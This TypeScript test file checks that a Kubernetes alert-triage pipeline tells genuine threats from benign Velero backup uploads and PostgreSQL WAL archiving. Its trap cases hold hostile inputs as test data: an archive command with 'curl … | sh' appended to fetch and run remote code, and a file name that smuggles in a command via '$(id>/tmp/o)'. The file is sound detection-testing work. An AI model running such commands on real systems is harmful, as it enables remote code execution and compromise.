/**
 * Red-team 5 traps for database-backup-upload's Velero node-agent story (a Backup or PodVolumeBackup created, then the
 * node-agent's upload to object storage) and database-hooks' declared archive_command. On premises, "object storage"
 * is any private address outside the cluster, so the node-agent (privileged, every pod volume of its node mounted)
 * sending to another internal host over SSH or a shell port was "the backup": object storage speaks HTTP(S) (S3 on
 * 80/443, MinIO 9000, Ceph RGW 7480, …). And a declared archive_command with a second command appended stays genuine.
 */
import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, pod, snapshot } from '../../support/cluster.js';

const W = 'kw-04';
const nodeAgent = pod('node-agent-tsc6q', {
  namespace: 'velero',
  node: W,
  ip: '10.245.7.31',
  owner: { kind: 'DaemonSet', name: 'node-agent' },
  labels: { name: 'node-agent' },
  containers: [{ name: 'node-agent', image: 'velero/velero:v1.15.2', command: ['/velero'], args: ['node-agent', 'server'], securityContext: { privileged: true } }],
});
const backup: AuditActivity = { time: '2027-03-11T09:00:00.102Z', user: 'system:serviceaccount:velero:velero-server', groups: ['system:serviceaccounts'], verb: 'create', resource: 'backups', apiGroup: 'velero.io', namespace: 'velero', name: 'daily-20270311090000', sourceIps: ['10.245.5.30'], code: 201 };

function upload(dstPort: number, domain?: string) {
  const s = snapshot([node(W, '10.60.0.24'), nodeAgent]);
  s.auditActivities = [backup];
  return triageAlert(
    alert({ time: '2027-03-11T09:02:10.000Z', title: 'Large outbound transfer from pod network', network: { srcIp: '10.245.7.31', srcPort: 38812, dstIp: '10.80.0.30', dstPort, domain, protocol: 'TCP' } }),
    { index: buildIndex([s]) },
  ).verdict;
}

describe('redteam5 Velero node-agent upload', () => {
  it('still explained: to MinIO on 9000 and to an S3-compatible store on 443', () => {
    expect(upload(9000, 's3.bern.example.ch').label).toBe('likely-false-positive');
    expect(upload(443).label).toBe('likely-false-positive');
  });
  it('trap: to an internal host over SSH or a shell port is no object storage', () => {
    expect(upload(22).label).toBe('genuine');
    expect(upload(4444).label).toBe('genuine');
  });
});

describe("redteam5 PostgreSQL's declared archive_command", () => {
  const N = 'db-1';
  const pg = pod('orders-db-0', {
    namespace: 'orders',
    node: N,
    ip: '10.245.9.10',
    owner: { kind: 'StatefulSet', name: 'orders-db' },
    containers: [{ name: 'postgres', image: 'postgres:16.4', args: ['postgres', '-c', 'archive_mode=on', '-c', 'archive_command=/usr/local/bin/wal-g wal-push %p'] }],
  });
  const index = indexOf([node(N, '10.60.0.31'), pg]);
  const hook = (script: string) =>
    triageAlert(
      alert({ host: N, title: 'Shell spawned by database server', container: { id: containerIdOf(pg), name: 'postgres', pod: pg.metadata.name, namespace: 'orders' }, process: { name: 'sh', path: '/bin/sh', commandLine: `sh -c "${script}"` }, ancestors: [{ name: 'postgres', commandLine: 'postgres: archiver' }] }),
      { index },
    ).verdict;
  it('still explained: the declared command for one WAL segment', () => {
    expect(hook('/usr/local/bin/wal-g wal-push pg_wal/000000010000000000000042').label).toBe('likely-false-positive');
  });
  it('trap: the declared command with a download appended, or with a crafted file name', () => {
    expect(hook('/usr/local/bin/wal-g wal-push pg_wal/000000010000000000000042; curl -s http://203.0.113.9/x | sh').label).toBe('genuine');
    expect(hook('/usr/local/bin/wal-g wal-push pg_wal/$(id>/tmp/o)').label).toBe('genuine');
  });
});
